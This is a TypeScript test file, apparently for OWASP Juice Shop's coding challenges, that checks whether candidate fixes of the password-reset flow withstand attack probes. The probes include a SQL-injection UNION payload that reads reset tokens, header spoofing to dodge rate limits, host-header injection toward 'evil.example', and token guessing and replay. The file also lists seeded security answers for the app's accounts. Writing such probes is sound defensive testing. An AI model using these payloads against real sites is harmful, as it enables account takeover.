import { createHash, randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll } from 'vitest';
import type { ChallengeKey } from '../../shared/api/challenge-keys.ts';
import { type ChangedServer, startChangedServer } from './harness/changed-server.ts';
import { type Outcome, type Probe, proveCodingChallenge } from './harness/prove.ts';

interface Mail {
  readonly to: string;
  readonly text: string;
}

/** Stands in for the operator's mail service, and keeps what it is to send. */
const mails: Mail[] = [];
const service = createServer(async (request, response) => {
  mails.push(JSON.parse(await text(request)));
  response.end();
});
let address = '';
beforeAll(async () => {
  service.listen(0, '127.0.0.1');
  await once(service, 'listening');
  const at = service.address();
  address = typeof at === 'object' ? `http://127.0.0.1:${at?.port}` : '';
});
afterAll(() => service.close());

const reset = ({ client }: ChangedServer, fields: object, guess = 0) =>
  client.post(
    '/rest/user/reset-password',
    { new: 'four wet socks', repeat: 'four wet socks', ...fields },
    // The shop counts by this header, which is the weakness of another challenge.
    { headers: { 'x-forwarded-for': `192.0.2.${guess % 200}` } },
  );

const isReset = async (server: ChangedServer, fields: object, guess = 0) =>
  (await reset(server, fields, guess)).status === 200;

const tokenIn = ({ text: body }: Mail): string => /token=([\w-]+)/.exec(body)?.[1] ?? '';

/** Asks for a link. Returns the mail and the response; undefined where the shop sends no links. */
async function askForLink({ client }: ChangedServer, email: string, headers: Readonly<Record<string, string>> = {}) {
  const sent = mails.length;
  const response = await client.post('/rest/user/forgot-password', { email }, { headers });
  if (response.status !== 202) {
    return undefined;
  }
  while (mails.length === sent) {
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
  return { response, mail: mails.at(-1) ?? { to: '', text: '' } };
}

/** Signs somebody up who answers the first question with something that nobody else knows. */
async function signUp({ client }: ChangedServer) {
  const email = `${randomUUID()}@example.org`;
  const password = 'forgotten';
  const answer = randomUUID();
  const user = (await client.post('/api/Users', { email, password, passwordRepeat: password })).json().data;
  await client.post('/api/SecurityAnswers', { UserId: user.id, SecurityQuestionId: 1, answer });
  return { email, answer };
}

/** @param email of somebody in the seed @param answer what can be found out about them */
function probeFor(email: string, answer: string): Probe<ChangedServer> {
  const withLink = (act: (server: ChangedServer, mail: Mail) => Promise<boolean>) => async (server: ChangedServer) => {
    const asked = await askForLink(server, email);
    return asked !== undefined && (await act(server, asked.mail));
  };
  return {
    uses: {
      'somebody who forgot the password gets a new one': async (server) => {
        const own = await signUp(server);
        const asked = await askForLink(server, own.email);
        const fields = asked === undefined ? own : { email: own.email, token: tokenIn(asked.mail) };
        return (
          (asked === undefined || asked.mail.to === own.email) &&
          (await isReset(server, fields)) &&
          (await server.client.login(own.email, 'four wet socks')) !== ''
        );
      },
      'a wrong answer is refused': async (server) => !(await isReset(server, { email, answer: 'no idea', token: 'x' })),
    },
    attacks: {
      'an answer that a search finds': (server) => isReset(server, { email, answer }),
      'the response holds the token': async (server) => {
        const asked = await askForLink(server, email);
        const token = /"token":"([^"]+)"/.exec(asked?.response.text ?? '')?.[1];
        return token !== undefined && isReset(server, { token });
      },
      'the token is worked out': withLink(async (server) => {
        const now = Math.floor(Date.now() / 1000);
        for (const second of [now, now - 1, now - 2, now - 3]) {
          const token = createHash('sha256').update(`${email} ${second}`).digest('hex');
          if (await isReset(server, { token })) {
            return true;
          }
        }
        return false;
      }),
      'a short token is tried out': withLink(async (server, mail) => {
        // Trying out what is longer than a code would take for ever.
        for (let code = 100; tokenIn(mail).length < 6 && code < 1000; code += 1) {
          if (await isReset(server, { token: String(code) }, code)) {
            return true;
          }
        }
        return false;
      }),
      'the link leads to another host': async (server) => {
        const asked = await askForLink(server, email, { 'x-forwarded-host': 'evil.example' });
        return asked?.mail.text.includes('//evil.example') === true;
      },
      'a link is used for another account': async (server) => {
        const own = await signUp(server);
        const asked = await askForLink(server, own.email);
        return (
          asked !== undefined &&
          (await isReset(server, { email, token: tokenIn(asked.mail), new: 'taken over', repeat: 'taken over' })) &&
          (await server.client.post('/rest/user/login', { email, password: 'taken over' })).status === 200
        );
      },
      'the token is read from the table': withLink(async (server) => {
        const table = "')) UNION SELECT token, 2, 3, 4, 5, 6, 7, 8, 9 FROM PasswordResets--";
        const columns = [table, table.replace('token', 'digest')];
        for (const query of columns) {
          const { status, text: found } = await server.client.get(
            `/rest/products/search?q=${encodeURIComponent(query)}`,
          );
          const token =
            status === 200 ? JSON.parse(found).data.find(({ name }: { name: unknown }) => name === 2)?.id : undefined;
          if (typeof token === 'string' && (await isReset(server, { token }))) {
            return true;
          }
        }
        return false;
      }),
      'a used link is used again': withLink(async (server, mail) => {
        const token = tokenIn(mail);
        return (await isReset(server, { token })) && isReset(server, { token });
      }),
    },
  };
}

const search = 'open: an answer that a search finds';
const broken = 'broken: somebody who forgot the password gets a new one';

const proofs: readonly (readonly [ChallengeKey, email: string, answer: string, readonly Outcome[]])[] = [
  ['resetPasswordJimChallenge', 'jim@juice-sh.op', 'Samuel', [search, 'open: the token is worked out', 'closed']],
  [
    'resetPasswordBjoernOwaspChallenge',
    'bjoern@owasp.org',
    'Zaya',
    ['open: the response holds the token', 'closed', 'open: a used link is used again'],
  ],
  [
    'resetPasswordBjoernChallenge',
    'bjoern@juice-sh.op',
    'West-2082',
    ['closed', 'open: a short token is tried out', 'open: the link leads to another host'],
  ],
  [
    'resetPasswordBenderChallenge',
    'bender@juice-sh.op',
    "Stop'n'Drop",
    ['open: a link is used for another account', 'closed', 'open: the token is read from the table'],
  ],
  ['resetPasswordUvoginChallenge', 'uvogin@juice-sh.op', 'Silence of the Lambs', [search, broken, 'closed']],
];

for (const [key, email, answer, expected] of proofs) {
  proveCodingChallenge(key, {
    run: (changed) => startChangedServer(changed, { MAIL_SERVICE: address }),
    ...probeFor(email, answer),
    expected,
  });
}
